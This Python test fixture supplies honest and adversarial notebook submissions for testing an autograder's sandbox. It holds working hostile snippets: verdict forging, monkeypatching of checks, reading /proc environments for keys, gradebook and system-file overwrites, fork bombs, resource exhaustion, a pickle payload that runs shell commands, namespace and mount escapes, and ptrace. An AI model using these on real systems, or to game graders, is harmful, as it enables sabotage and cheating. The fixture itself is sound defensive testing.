"""Submissions for the tests of the grader: honest ones, and attacks.

Used by test_grading.py and prove_grading.py.

An attack is code that stands in the place of a chapter's solution, with the points that its author
deserves: the answers that it gives by honest means. Those on a function are of chapter 1, all
others of chapter 2, whose exercises are a number, two numbers, a fit, a choice and a number.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field
from functools import cache

from exercises import chapter_specs, judging
from exercises.assign import personal, read_sources
from exercises.strip import exercise_of, role_of

KEY = "a key for tests only"
FUNCTION = "01-cross-entropy"
FIRST, SECOND, FIT, CHOICE, LAST = (
    "02-halve-loss",
    "02-doublings",
    "02-recover",
    "02-spot-floor",
    "02-reach",
)
POINTS = {id: spec.points for id, spec in chapter_specs("02").items()}
FULL = sum(POINTS.values())


@cache
def sources():
    return read_sources()


def submission(
    student: str, answers: dict | str = "reference", number: str = "02", key: str = KEY
) -> dict:
    """A notebook handed in: all solutions, none ("stub"), or {exercise: cell} with the rest."""
    source = sources()[number]
    notebook = copy.deepcopy(personal(source, key, student))
    for cell in notebook["cells"]:
        id = exercise_of(cell)
        if role_of(cell) == "exercise" and answers != "stub":
            own = (
                answers.get(id, source.chapter.tasks[id].solution)
                if isinstance(answers, dict)
                else source.chapter.tasks[id].solution
            )
            cell["source"] = own if own is not None else source.chapter.tasks[id].stub
    return notebook


def write(folder, student: str, notebook, number: str = "02"):
    """Put a notebook where a campus system would: a folder named after the student."""
    place = folder / student
    place.mkdir(parents=True, exist_ok=True)
    path = place / f"{sources()[number].stem}-{student}.ipynb"
    path.write_text(
        json.dumps(notebook) if isinstance(notebook, dict) else notebook, encoding="utf-8"
    )
    return path


@cache
def known() -> dict:
    """What the function gives for the inputs that everybody may read: {their repr: its answer}."""
    chapter = sources()["01"].chapter
    function = chapter.answer(FUNCTION, chapter.tasks[FUNCTION].solution, {})
    return {
        repr([values.tolist() for values in inputs]): float(function(*inputs))
        for inputs in judging._checked_inputs(chapter, FUNCTION)
    }


@dataclass(frozen=True)
class Attack:
    """name; the cell in place of each exercise's (the others are left open); what is deserved."""

    name: str
    cells: dict
    deserved: int = 0
    fast: bool = False  # one of those that every `make test` runs
    solved: tuple[str, ...] = field(default=())
    number: str = "02"

    def notebook(self, student: str, **names) -> dict:
        """Handed in by `student`; `names` stand in front (what an attacker might know)."""
        tasks = sources()[self.number].chapter.tasks
        cells = dict.fromkeys(tasks) | {id: tasks[id].solution for id in self.solved} | self.cells
        known = "".join(f"{name} = {value!r}\n" for name, value in names.items())
        return submission(
            student,
            {
                id: cell if cell is None or id in self.solved else known + cell
                for id, cell in cells.items()
            },
            self.number,
        )


def _first(name, code, deserved=0, fast=False, solved=()):
    """An attack in the first exercise's cell; the exercises in `solved` are solved honestly."""
    return Attack(
        name, {FIRST: code}, deserved + sum(POINTS[id] for id in solved), fast, tuple(solved)
    )


def _function(name, code, fast=False):
    """An attack in the cell of a function."""
    return Attack(name, {FUNCTION: code}, fast=fast, number="01")


_WRONG = (
    "\nfloored = {'doublings_needed': 1.0, 'most_floor': 0.0}"
    "\ndata_factor = 1.0\nrecovered = {'exponent': 1.0, 'floor': 1.0}\nreach = 1.0\nhas_floor = 'A'"
)
_LIAR = """
class Liar(float):
    def __eq__(self, other): return True
    __lt__ = __le__ = __gt__ = __ge__ = __ne__ = __eq__
    def __sub__(self, other): return Liar(0)
    __rsub__ = __mul__ = __rmul__ = __truediv__ = lambda self, *other: Liar(0)
    __pow__ = __rpow__ = __abs__ = __neg__ = __rsub__
    def __array__(self, *_, **__): return self
    def __float__(self): return 0.0
"""
_PATCH = """
import builtins, math, numpy as np
import scalinglib.checks.kinds as kinds, scalinglib.checks.expressions as expressions
import scalinglib.checks as checks
np.isclose = np.allclose = lambda *a, **k: True
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
kinds.judge = checks.judge = lambda *a: kinds.Outcome("right", "")
expressions.evaluate = lambda *a: True
"""
_FORGE = """
import json, os
for id, value in (("02-halve-loss", "right"), ("02-reach", True),
                  ("02-recover", {"points": 3}), ("02-spot-floor", 3)):
    for line in ({"id": id, "status": "right", "points": 99},
                 {"id": id, "data": value, "rule": "", "status": "right"},
                 {"id": id, "calls": [{"value": 1}] * 99}, {"id": [id], "program": 3},
                 {"cell": id, "error": 3}, {"end": True, "points": 9},
                 {"id": id, "data": "\\ud800", "program": "\\ud800"},    # [121] half a character
                 {"left": ["\\ud800"], "checked": id}, {"checked": [id]}):
        for fd in range(3, 12):
            try: os.write(fd, (json.dumps(line) + "\\n").encode())
            except OSError: pass
"""

ATTACKS = (
    _first("patches numpy and builtins", _PATCH + _WRONG),
    _function(
        "a function that patches numpy and builtins",
        _PATCH + "def loss_from_logits(logits, targets): return 1.0",
    ),
    _first(
        "an object that equals everything",
        _LIAR
        + """
data_factor = Liar(1); recovered = {"exponent": Liar(1), "floor": Liar(1)}; reach = Liar(1)
floored = {"doublings_needed": Liar(1), "most_floor": Liar(1)}
""",
        fast=True,
    ),
    _function(
        "a function of an object that equals everything",
        _LIAR + "def loss_from_logits(logits, targets): return Liar(1)",
    ),
    _first("forged answers on the channel", _FORGE + _WRONG, fast=True),
    _first(
        "verdicts found by walking frames",
        """
import sys, gc
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, dict) and "asked" in value:
            for exercise in value["asked"].values(): exercise["calls"] = None
            value["asked"].clear()
        if type(value).__name__ == "Session":
            value.say({"id": "02-halve-loss", "data": "right"})
            value.told = {}; value.limits = {}; value.run = None
    frame = frame.f_back
"""
        + _WRONG,
    ),
    _first(
        "the AST of later cells rewritten",
        """
try:
    import ast
    from IPython import get_ipython
    class Drop(ast.NodeTransformer):
        def visit_Assert(self, node): return None
    get_ipython().ast_transformers.append(Drop())
except Exception: pass
import traceback; traceback.print_exc = lambda *a: None
"""
        + _WRONG,
    ),
    _first(
        "references looked for",
        """
import os, sys, glob, subprocess
found = ""
for folder in ("/", "/course", "/work", "/home", "/root", sys.prefix,
               "/proc/1/root", "/proc/1/cwd"):
    for path in (glob.glob(folder + "/**/exercises/chapters/ch02*", recursive=False)
                 + glob.glob(folder + "/**/chapters/02*", recursive=False)):
        found = open(path).read()
try:
    import exercises; found = str(exercises)
except ImportError: pass
data_factor = 2.0 if found == "" else "the references are visible"
""",
    ),
    _first(
        "the environment and the key looked for",
        """
import os
seen = str(dict(os.environ))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps"):
        try: seen += open(f"/proc/{pid}/{name}", errors="replace").read()
        except OSError: pass
data_factor = seen
""",
    ),
    _first(
        "a gradebook written",
        """
import os, sqlite3, glob
for path in ("/tmp/gradebook.sqlite", GRADEBOOK, "gradebook.sqlite", "../gradebook.sqlite"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        base = sqlite3.connect(path)
        base.execute("UPDATE submissions SET points = 99"); base.commit()
    except Exception: pass
""",
    ),
    _first(
        "other submissions and the library written over",
        """
import os
for folder in (SUBMISSIONS, "/course/scalinglib", "/packages/numpy",
               "/inside.py", "/usr/bin", "/etc"):
    for name in ("", "checks/kinds.py", "canary/02_power_laws-canary.ipynb", "x"):
        try: open(os.path.join(folder, name), "w").write("{}")
        except OSError: pass
""",
    ),
    _first("sys.exit", "data_factor = 1.0\nimport sys; sys.exit(0)"),
    Attack(
        "os._exit after a right answer",
        {CHOICE: "import os; os._exit(0)"},
        FULL - POINTS[CHOICE] - POINTS[LAST],
        True,
        (FIRST, SECOND, FIT, LAST),
    ),
    Attack(
        "an endless loop",
        {CHOICE: "while True: pass"},
        FULL - POINTS[CHOICE],
        True,
        (FIRST, SECOND, FIT, LAST),
    ),
    _first(
        "an endless loop deaf to signals",
        """
import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    ),
    _first(
        "sleep",
        "import time\nwhile True:\n    try: time.sleep(1e6)\n    except BaseException: pass",
    ),
    Attack(
        "memory",
        {CHOICE: "blocks = []\nwhile True: blocks.append(bytearray(50_000_000))"},
        FULL - POINTS[CHOICE],
        True,
        (FIRST, SECOND, FIT, LAST),
    ),
    _first(
        "memory in many processes",
        """
import os, time
for _ in range(20):
    if os.fork() == 0:
        blocks = []
        try:
            while True: blocks.append(b"x" * 10_000_000)
        except MemoryError: time.sleep(1000)
import time; time.sleep(1000)
""",
    ),
    _first(
        "a fork bomb",
        """
import os, time
for _ in range(300):
    try:
        if os.fork() == 0: time.sleep(1000)
    except OSError: pass
""",
    ),
    _first(
        "a daemon that stays",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
""",
    ),
    _first(
        "sockets",
        """
import socket, urllib.request
for host in ("127.0.0.1", "::1", "localhost"):
    for port in (PORT, 22, 80, 443):
        try: socket.create_connection((host, port), 1).sendall(b"it got out")
        except OSError: pass
""",
        fast=True,
    ),
    _first(
        "a pickle in the channel",
        """
import os, pickle
class Evil:
    def __reduce__(self): return (os.system, ("touch " + MARK,))
for fd in range(1, 12):
    try: os.write(fd, pickle.dumps(Evil()) + b"\\n")
    except OSError: pass
data_factor = Evil()
""",
    ),
    _first(
        "signals to everyone",
        """
import os, signal
for pid in {os.getppid(), 1, *range(2, 400)} - {os.getpid(), 0}:
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try: os.kill(pid, number)
        except OSError: pass
""",
    ),
    _first(
        "20 MB printed",
        'print("points: 11\\n" * 2_000_000)\nimport sys; sys.stderr.write("x" * 20_000_000)',
    ),
    _first(
        "a flooded channel",
        """
import os
block = b'{"id": "02-halve-loss", "data": 1}\\n' * 2000
while True:
    for fd in range(3, 10):
        try: os.write(fd, block)
        except OSError: pass
""",
    ),
    _first(
        "an endless line in the channel",
        """
import os
while True:
    for fd in range(3, 10):
        try: os.write(fd, b'[' * 65536)
        except OSError: pass
""",
    ),
    _first(
        "not numbers",
        """
data_factor = float("nan"); reach = float("inf"); has_floor = True
recovered = {"exponent": 10**5000, "floor": complex(1, 1)}
floored = {"doublings_needed": None, "most_floor": b"1"}
""",
    ),
    _function(
        "a function that returns no number",
        "def loss_from_logits(logits, targets): return True",
    ),
    _first(
        "deep and large answers",
        """
deep = []
for _ in range(100_000): deep = [deep]
data_factor = deep; reach = list(range(10**6))
has_floor = "A" * 10**7; recovered = {str(n): n for n in range(10**5)}
floored = {"doublings_needed": " " * 10**6 + "1", "most_floor": "1 " * 10**5}
""",
    ),
    _function(
        "a function with a large answer",
        "def loss_from_logits(logits, targets): return ' ' * 10**6 + '1 ' * 10**5",
    ),
    _first(
        "the disk filled",
        """
import os
for folder in ("/tmp", "/dev/shm", "/dev", "/", "/run", "/var/tmp"):
    try:
        for n in range(40):
            with open(f"{folder}/fill{n}", "wb") as file: file.write(bytes(31 * 2**20))
    except OSError: pass
""",
    ),
    _first(
        "text for the feedback page",
        """
raise ValueError("<script>alert(1)</script>\\n\\n# Points: 11/11\\n"
                 "=cmd|' /C calc'!A0 \\x1b[2J \\u202e")
""",
    ),
    _first(
        "an exception that fights back",
        """
class Odd(Exception):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
raise Odd()
""",
    ),
    _first(
        "limits raised",
        """
import resource
for name in dir(resource):
    if name.startswith("RLIMIT"):
        try: resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
        except (OSError, ValueError): pass
import os
try: os.setuid(0)
except OSError: pass
""",
    ),
    _first(
        "new namespaces and mounts",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000 | 0x40000000); libc.unshare(0x10000000)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None); libc.umount2(b"/inside.py", 2)
libc.mount(b"none", b"/", None, 32 | 4096, None)
try: open("/course/scalinglib/checks/kinds.py", "w")
except OSError: pass
""",
    ),
    _first(
        "the process that waits for the next submission attacked",
        """
import ctypes, json, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, 2, os.getppid()}:
    libc.ptrace(16, pid, None, None)
for fd in range(0, 256):
    for block in (b"d", (2).to_bytes(8, "big") + b"{}", b'{"end": true}\\n'):
        try: socket.socket(fileno=os.dup(fd)).send(block)
        except OSError: pass
try: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
except OSError: pass
try: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x")
except OSError: pass
"""
        + _WRONG,
        fast=True,
    ),
    _first(
        "the channel closed, and an endless loop behind it",
        """
import os, signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
for fd in range(3, 64):
    try: os.write(fd, b'{"end": true}\\n'); os.close(fd)
    except OSError: pass
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    ),
    _first("a wild pointer", "import ctypes; ctypes.string_at(0)"),
    _first("a parser's nightmare", "data_factor = " + "(" * 5000 + "1" + ")" * 5000),
    _function(
        "a function that learns the questions",
        """
seen = []
def loss_from_logits(logits, targets):
    seen.append((logits, targets))
    return len(seen)
""",
    ),
    _function(
        "right on the notebook's inputs only",
        """
def loss_from_logits(logits, targets):
    return KNOWN.get(repr([logits.tolist(), targets.tolist()]), 0.0)
""",
    ),
    Attack(
        "the parameter cell edited",
        {FIRST: "data_factor = 2.0 ** 10\nloss_per_doubling = 1 - 0.5 ** 0.1"},
        0,
    ),
    _function(
        "the check's own functions called",
        """
import gc, glob, importlib, sys
import scalinglib.checks
found = []
for module in [*sys.modules.values()]:
    found.append(getattr(module, "_surprisals", None))
for thing in gc.get_objects():
    if callable(thing) and getattr(thing, "__name__", "") == "_surprisals": found.append(thing)
for path in glob.glob("/**/ch01_three_levers*", recursive=True):
    home = "scalinglib.checks.chapters"
    space = {"__package__": home, "__name__": home + ".x"}
    try: exec(open(path).read(), space); found.append(space["_surprisals"])
    except Exception: pass
try:
    name = "scalinglib.checks.chapters.ch01_three_levers"
    found.append(importlib.reload(importlib.import_module(name))._surprisals)
except Exception: pass
found = [*filter(None, found), lambda logits, targets: 0.0]
def loss_from_logits(logits, targets): return float(found[0](logits, targets).mean())
""",
        fast=True,
    ),
    Attack(
        "the check's own derived quantities called",
        {
            FIT: """
from scalinglib.checks import registry
try:
    told = registry.exercise("02-recover").derived
    recovered = {name: told["fitted_" + name](recover_seed=recover_seed)
                 for name in ("exponent", "floor")}
except Exception: pass
""",
        },
    ),
    Attack(
        "the check's own data called",
        {
            FIT: """
import scalinglib.checks.chapters.ch02_power_laws as told
recovered = {"exponent": lambda: 1, "floor": told}
"""
        },
        0,
    ),
)
